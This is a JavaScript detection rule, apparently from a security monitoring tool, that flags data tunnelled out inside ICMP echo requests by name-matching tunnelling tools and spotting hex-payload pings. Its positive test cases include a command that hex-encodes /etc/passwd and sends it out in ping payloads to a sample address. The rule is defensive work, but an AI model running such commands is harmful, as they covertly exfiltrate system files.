import { commandRule } from "../../command-rule.js";
import { find } from "../../shell/look.js";

/** A tool that carries data inside echo requests was started. */
export const echoTunnel = commandRule({
  id: "echo-tunnel",
  alertType: "Picket_EchoTunnel",
  name: "Tunnel through echoes",
  severity: "High",
  about: "A tool that carries data inside echo requests was started.",
  tactics: ["Command and Control"],
  techniques: ["T1095", "T1572"],
  falsePositives: ["None are known on devices."],
  witness: ["ptunnel", "icmpsh", "icmptunnel", "hans ", "icmpdoor", "ping", "pingtunnel", "nping"],
  sees: (reading) =>
    find(reading, /^(?:ptunnel(?:-ng)?|icmpsh|icmptunnel|hans|icmpdoor(?:\.py)?|pingtunnel)$/) ??
    find(reading, /^ping$/, ({ text }) => /\s-p\s*[0-9a-f]{8,}/i.test(text)) ??
    (reading.commands.some(({ name }) => /^(?:xxd|od|hexdump)$/.test(name))
      ? find(reading, /^(?:ping|nping)$/, ({ text }) => /\s-p\b|--data/.test(text))
      : undefined),
  did: "opened a tunnel through echoes",
  because: "data leaves inside echo requests",
  fires: [
    "ptunnel-ng -p203.0.113.9 -l8000",
    "ping -c1 -p 726f6f743a783a303a30 203.0.113.9",
    "sh -c xxd -p -c 8 /etc/passwd | while read l; do ping -c1 -p $l 203.0.113.9; done",
  ],
  silent: [
    "ping -c 3 10.0.0.1",
    "ping -p ff 10.0.0.1",
    "hping3 --help",
    "ping6 fe80::1",
    "apt-get install iputils-ping",
  ],
});
